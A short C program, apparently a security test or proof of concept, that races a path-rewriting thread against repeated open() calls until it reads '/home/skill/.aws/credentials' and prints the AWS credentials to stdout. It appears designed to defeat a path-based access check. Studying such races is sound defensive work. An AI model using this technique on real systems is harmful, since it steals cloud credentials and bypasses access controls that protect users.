/* SPDX-License-Identifier: MIT */
/* One thread changes the path without end, the other opens it, until the secret was opened. */
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define TRIES 20000

static char path[64] = "/home/skill/.aws/credentials";
static atomic_int done;

/* Both names have one length: only the last folder's first letter changes. */
static void *flip(void *unused)
{
	volatile char *letter = strstr(path, "aws");

	while (!atomic_load_explicit(&done, memory_order_relaxed)) {
		*letter = 'x';
		*letter = 'a';
	}
	return unused;
}

int main(void)
{
	char bytes[4096];
	pthread_t other;
	ssize_t n = 0;
	int i, fd;

	if (pthread_create(&other, NULL, flip, NULL)) return 1;
	for (i = 0; i < TRIES && n <= 0; i++) {
		fd = open(path, O_RDONLY);
		if (fd < 0) continue;
		n = read(fd, bytes, sizeof bytes);
		close(fd);
	}
	atomic_store(&done, 1);
	pthread_join(other, NULL);
	if (n <= 0) return 1;
	fwrite(bytes, 1, (size_t)n, stdout);
	return 0;
}
